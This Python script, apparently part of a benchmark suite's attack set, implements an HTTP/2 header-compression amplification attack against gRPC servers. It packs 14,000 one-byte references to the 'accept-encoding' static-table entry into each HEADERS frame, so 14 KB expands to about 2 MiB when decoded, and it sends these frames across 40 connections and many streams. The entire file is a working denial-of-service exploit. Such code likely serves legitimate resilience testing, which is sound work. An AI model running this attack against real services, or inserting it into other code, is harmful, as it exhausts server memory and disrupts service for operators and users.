"""Calls whose header block names one header of the static table 14,000 times: 14 KB that become 2 MiB in gRPC."""

from __future__ import annotations

from collections import Counter

from benchmarks.attacks.http2_client import END_HEADERS, HEADERS, Connection, frame, request, run

FIELDS = 14_000
CONNECTIONS = 40
STREAMS = 64
"""Of one connection: what gRPC accepts at once."""

_BLOCK = request() + b"\x90" * FIELDS  # 16: accept-encoding: gzip, deflate


def attack(connection: Connection, sent: Counter[str]) -> None:
    if connection.next_stream > 2 * STREAMS:
        return
    block = frame(HEADERS, connection.next_stream, _BLOCK, END_HEADERS)
    connection.next_stream += 2
    connection.send(block)
    sent.update(calls=1, bytes=len(block))


if __name__ == "__main__":
    run(attack, CONNECTIONS)
